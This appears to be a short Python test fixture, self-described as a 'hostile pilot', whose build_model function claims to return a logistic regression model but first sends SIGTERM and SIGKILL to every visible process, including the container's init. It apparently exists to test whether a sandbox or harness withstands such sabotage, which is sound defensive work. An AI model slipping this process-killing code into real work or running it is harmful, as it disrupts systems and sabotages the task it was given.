# ruff: noqa: SIM105 - a hostile pilot, written plainly
"""Signals the container's init and every other process it can see, hoping to stop the
container and leave the host with a half-finished run.
"""

import os
import signal

from sklearn.linear_model import LogisticRegression


def build_model():
    for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
        if pid != os.getpid():
            for number in (signal.SIGTERM, signal.SIGKILL):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    return LogisticRegression(max_iter=200)
